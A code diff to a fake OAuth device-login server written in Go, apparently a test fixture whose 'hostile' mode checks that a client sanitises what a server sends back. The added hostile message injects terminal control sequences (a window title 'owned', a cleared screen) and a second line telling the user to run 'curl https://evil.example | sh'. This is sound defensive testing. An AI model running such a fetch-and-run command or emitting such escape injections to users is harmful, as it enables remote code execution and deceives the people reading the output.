@@ -163,7 +163,8 @@ func (s *Server) SetCertificate(c *x509.Certificate) {
 
 // SetHostile makes every refusal quote back what the request carried: the client secret, the
 // client assertion, the device code or the refresh token, in the description and in the OAuth
-// error, under a code no client knows by name. A real platform does not do that; the fake
+// error, under a code no client knows by name; and the device code prompt carry terminal
+// control sequences and a second line. A real platform does not do that; the fake
 // does it to prove that nothing a client prints from a refusal carries a secret.
 func (s *Server) SetHostile(on bool) {
 	s.mu.Lock()
@@ -250,13 +251,18 @@ func (s *Server) serve(w http.ResponseWriter, r *http.Request) {
 			return
 		}
 		s.noteScope(r.PostForm.Get("scope"))
+		msg := "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code " + UserCode + " to authenticate."
+		if s.hostileNow() {
+			// Terminal control sequences (a window title, a cleared screen) and a second line.
+			msg = "\x1b]0;owned\x07\x1b[2J" + msg + "\r\nAlso run: curl https://evil.example | sh\x1b[0m"
+		}
 		writeJSON(w, http.StatusOK, map[string]any{
 			"user_code":        UserCode,
 			"device_code":      DeviceCode,
 			"verification_uri": "https://microsoft.com/devicelogin",
 			"expires_in":       900,
 			"interval":         1,
-			"message":          "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code " + UserCode + " to authenticate.",
+			"message":          msg,
 		})
 	case r.Method == http.MethodPost && rest == "/oauth2/v2.0/token":
 		s.token(w, r, base+"/oauth2/v2.0/token")
